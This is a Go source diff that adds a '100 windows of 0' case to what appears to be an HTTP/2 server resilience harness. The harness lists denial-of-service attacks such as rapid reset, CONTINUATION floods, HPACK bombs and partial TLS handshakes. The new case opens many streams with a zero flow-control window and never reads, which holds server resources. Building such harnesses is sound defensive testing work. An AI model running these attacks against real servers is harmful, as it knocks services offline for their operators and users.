@@ -19,6 +19,7 @@ var (
 	frameKinds     = []string{"rapid reset", "CONTINUATION", "SETTINGS", "PING", "PING that is not read", "HPACK bombs"}
 	silentKinds    = []string{"nothing", "half a ClientHello", "ClientHello", "garbage"}
 	handshakeKinds = []string{"handshakes"}
+	unreadKinds    = []string{"100 windows of 0"}
 )
 
 const (
@@ -53,6 +54,16 @@ var attacks = map[string]attack{
 		_ = a.preface(http2.Setting{ID: http2.SettingInitialWindowSize}) && a.say(asks(1, true, block("GET", "/1m")))
 		a.begun()
 		a.listen()
+	}},
+	"100 windows of 0": {protocol: overHTTP2, act: func(a *attacker) {
+		_ = a.preface(http2.Setting{ID: http2.SettingInitialWindowSize})
+		a.aside(a.listen, func() {
+			get := block("GET", "/200k")
+			for id := uint32(1); id < 200 && a.say(asks(id, true, get)); id += 2 {
+			}
+			a.begun()
+			<-a.ctx.Done()
+		})
 	}},
 	"windows of 1": {protocol: overHTTP2, act: func(a *attacker) {
 		_ = a.preface(http2.Setting{ID: http2.SettingInitialWindowSize}) && a.say(asks(1, true, block("GET", "/1m")))
